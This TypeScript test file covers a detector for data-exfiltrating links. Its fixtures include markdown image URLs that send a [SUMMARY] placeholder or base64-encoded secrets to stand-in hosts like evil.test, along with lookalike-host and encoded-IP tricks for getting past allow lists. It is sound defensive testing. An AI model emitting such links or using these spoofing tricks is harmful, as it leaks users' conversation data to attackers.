// Promises of the links detector beyond its cases: hosts, Punycode, allowed hosts, bounds.

import * as fc from 'fast-check';
import { domainToASCII } from 'node:url';
import { describe, expect, test } from 'vitest';
import { runnerOf } from '../run.ts';
import { createLinksDetector } from './detector.ts';
import { addressKind } from './hosts.ts';
import { decodeLabel } from './punycode.ts';
import { registeredDomain } from './url.ts';

describe('Punycode', () => {
  test('decodes what the platform encodes', () => {
    const letters = fc.constantFrom(...'abcxyz09äöüßéñøłčабвгдежзαβγδεζ例え日本語한국'.split(''));
    fc.assert(
      fc.property(fc.array(letters, { minLength: 1, maxLength: 20 }), (chars) => {
        const label = chars.join('');
        const encoded = domainToASCII(label);
        fc.pre(encoded.startsWith('xn--'));
        // The platform maps some letters (ß) before it encodes, so its own reading is compared.
        expect(domainToASCII(decodeLabel(encoded)!)).toBe(encoded);
      }),
    );
  });

  test('gives up on malformed labels instead of throwing', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        const decoded = decodeLabel(`xn--${text}`);
        expect(decoded === null || typeof decoded === 'string').toBe(true);
      }),
    );
  });
});

test.each([
  ['8.8.8.8', 'public'],
  ['10.1.2.3', null],
  ['172.16.0.1', null],
  ['172.32.0.1', 'public'],
  ['100.64.0.1', null],
  ['127.0.0.1', null],
  ['0177.0.0.1', 'encoded'],
  ['0x7f000001', 'encoded'],
  ['2130706433', 'encoded'],
  ['127.1', 'encoded'],
  ['8080', null],
  ['169.254.169.254', 'metadata'],
  ['::1', null],
  ['fd00::1', null],
  ['fe80::1', null],
  ['2606:2800:220:1::1', 'public'],
  ['example.com', null],
  ['1.2.3.example', null],
] as const)('tells what the address %s is', (host, kind) => {
  expect(addressKind(host)).toBe(kind);
});

test.each([
  ['www.example.com', 'example.com'],
  ['a.b.example.co.uk', 'example.co.uk'],
  ['example.com', 'example.com'],
  ['localhost', 'localhost'],
])('takes %s as registered under %s', (host, domain) => {
  expect(registeredDomain(host)).toBe(domain);
});

describe('allowed hosts', () => {
  const run = runnerOf(createLinksDetector(['cdn.example']));

  test.each([
    'https://cdn.example/i?q=[SUMMARY]',
    'https://eu.cdn.example/i?q=[SUMMARY]',
    'https://CDN.example:8443/i?q=[SUMMARY]',
  ])('%s is never reported', (url) => {
    expect(run(`![x](${url})`)).toEqual([]);
  });

  test.each([
    'https://evil-cdn.example/i?q=[SUMMARY]',
    'https://cdn.example.evil.test/i?q=[SUMMARY]',
    'https://cdn.example@evil.test/i?q=[SUMMARY]',
  ])('%s is reported, as its host only looks allowed', (url) => {
    expect(run(`![x](${url})`)).toHaveLength(1);
  });
});

describe('any text', () => {
  const run = runnerOf(createLinksDetector([]));
  const pieces = fc.constantFrom(
    'http://',
    'https://a.b',
    '](',
    '[',
    '!',
    ')',
    '@',
    '?q=',
    '%20a',
    '[X]',
    'javascript:',
    '<a href="',
    'xn--',
    '.',
    '/',
    ' ',
    'é',
    '\ud83d',
    'а',
  );

  test('spans lie inside it, in order and without overlap', () => {
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 60 }), (parts) => {
        const text = parts.join('');
        let end = 0;
        for (const found of run(text)) {
          expect(found.start).toBeGreaterThanOrEqual(end);
          expect(found.end).toBeGreaterThan(found.start);
          expect(found.end).toBeLessThanOrEqual(text.length);
          end = found.end;
        }
      }),
      { numRuns: 500 },
    );
  });

  test('a link is judged by its first 832 characters, and told to its end', () => {
    const value = Buffer.from('the customer said: my password is hunter2 and more. '.repeat(20)).toString('base64');
    const early = `![x](https://a.example/?d=${value.slice(0, 400)}&e=${'a'.repeat(1_500)})`;
    expect(run(early)).toMatchObject([{ type: 'data_exfiltration', start: 5, end: early.length - 1 }]);
    // What is behind that might be anything.
    const late = (query: string) =>
      `![x](https://a.example/${'a'.repeat(700)}?${query}${'a'.repeat(200)}&d=${value.slice(0, 400)})`;
    expect(run(late('v='))).toMatchObject([{ type: 'data_exfiltration', score: 0.6 }]);
    expect(run(late('X-Amz-Security-Token='))).toEqual([]);
    expect(run(late('v=').slice(1))).toEqual([]);
  });

  test('no more than 8 192 characters of one link are read', () => {
    const text = `http://8.8.8.8/${'a'.repeat(10_000)}`;
    expect(run(text).map(({ start, end }) => end - start)).toEqual([8_192 + 'http://'.length]);
  });
});
